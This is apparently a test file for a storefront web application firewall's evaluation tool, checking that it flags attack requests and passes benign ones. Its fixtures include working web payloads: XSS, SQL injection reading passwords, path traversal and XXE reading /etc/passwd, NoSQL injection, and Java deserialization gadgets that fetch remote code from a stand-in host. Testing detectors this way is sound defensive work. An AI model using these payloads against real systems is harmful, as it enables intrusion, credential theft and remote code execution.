// `npm run waf:eval` replays a corpus: values as a storefront query, and full requests (method,
// path with its query string, headers, JSON or raw bodies) through inspectRequest where given.
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { expect } from 'chai';
import { projectRoot } from '../../../core/paths.js';

function runEval(lines: unknown[]): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'waf-eval-'));
  const file = path.join(dir, 'corpus.jsonl');
  fs.writeFileSync(file, lines.map((l) => JSON.stringify(l)).join('\n') + '\n');
  return execFileSync(process.execPath, ['--import', 'tsx', 'plugins/waf/eval.ts', file, '--show', '5'], { cwd: projectRoot, encoding: 'utf8' });
}

const row = (out: string, category: string) => out.split('\n').find((l) => l.startsWith(category.padEnd(20)))?.trim().split(/\s+/);

describe('npm run waf:eval', function () {
  this.timeout(60_000);

  it('replays full requests where a line has one, and values as a query otherwise', () => {
    const out = runEval([
      { category: 'req-xss', expect: 'attack', request: { method: 'POST', path: '/store/v1/carts', headers: { host: 'shop.example.com', 'content-type': 'application/json' }, body: { note: '<script>alert(1)</script>' } } },
      { category: 'req-sqli', expect: 'attack', request: { method: 'GET', path: "/store/v1/search?q=1' union select password from users--&page=2", headers: { host: 'shop.example.com' } } },
      { category: 'req-lfi', expect: 'attack', request: { method: 'POST', path: '/upload', headers: { host: 'shop.example.com', 'content-type': 'application/x-www-form-urlencoded' }, body: 'file=..%2F..%2F..%2Fetc%2Fpasswd' } },
      { category: 'req-scanner', expect: 'attack', request: { method: 'GET', path: '/', headers: { host: 'shop.example.com', 'user-agent': 'Nikto/2.5.0' } } },
      { category: 'req-benign', expect: 'benign', request: { method: 'POST', path: '/store/v1/carts/1/lines', headers: { host: 'shop.example.com', 'content-type': 'application/json' }, body: { note: "Rock & Roll Hall of Fame T-shirt, 1/2\" drill bit, Levi's 501" } } },
      { category: 'value-sqli', expect: 'attack', payload: "1' or '1'='1" },
      { category: 'value-benign', expect: 'benign', payload: 'Select Comfort mattress, queen' },
    ]);
    expect(out).to.include('entries: 7 (5 full requests, 0 whole bodies or query strings, 2 values sent as ?q=)');
    for (const c of ['req-xss', 'req-sqli', 'req-lfi', 'req-scanner', 'value-sqli']) expect(row(out, c), c).to.deep.equal([c, 'attack', '1', '1', '100.00%', 'detect']);
    for (const c of ['req-benign', 'value-benign']) expect(row(out, c), c).to.deep.equal([c, 'benign', '1', '0', '0.00%', 'FP']);
    expect(out).not.to.include('false positives (');
  });

  it('honours placement: a whole query string, or a whole JSON, XML or YAML body', () => {
    const out = runEval([
      { category: 'qs-nosql', expect: 'attack', placement: 'query-string', payload: 'username[$ne]=x&password[$ne]=x' },
      { category: 'json-java', expect: 'attack', placement: 'json-body', payload: '["org.springframework.context.support.FileSystemXmlApplicationContext", "http://evil.example/spel.xml"]' },
      { category: 'xml-xxe', expect: 'attack', placement: 'xml-body', payload: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>' },
      { category: 'yaml-java', expect: 'attack', placement: 'yaml-body', payload: '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil.example/"]]]]' },
      { category: 'xml-benign', expect: 'benign', placement: 'xml-body', payload: '<?xml version="1.0" encoding="UTF-8"?><notification><order>1042</order><status>paid</status></notification>' },
      { category: 'qs-benign', expect: 'benign', placement: 'query-string', payload: 'q=red+shoes&limit=20&sort=price_asc' },
    ]);
    expect(out).to.include('entries: 6 (0 full requests, 6 whole bodies or query strings, 0 values sent as ?q=)');
    for (const c of ['qs-nosql', 'json-java', 'xml-xxe', 'yaml-java']) expect(row(out, c), c).to.deep.equal([c, 'attack', '1', '1', '100.00%', 'detect']);
    for (const c of ['xml-benign', 'qs-benign']) expect(row(out, c), c).to.deep.equal([c, 'benign', '1', '0', '0.00%', 'FP']);
    // As a single ?q= value the whole query string is one opaque value: its names are not names.
    const asValue = runEval([{ category: 'qs-as-value', expect: 'attack', payload: 'username[$ne]=x&password[$ne]=x' }]);
    expect(asValue).to.include('0 whole bodies or query strings, 1 values sent as ?q=');
  });

  it('refuses a placement it does not know rather than guessing', () => {
    expect(() => runEval([{ category: 'x', expect: 'attack', placement: 'carrier-pigeon', payload: 'x' }])).to.throw(/unknown placement/);
  });
});
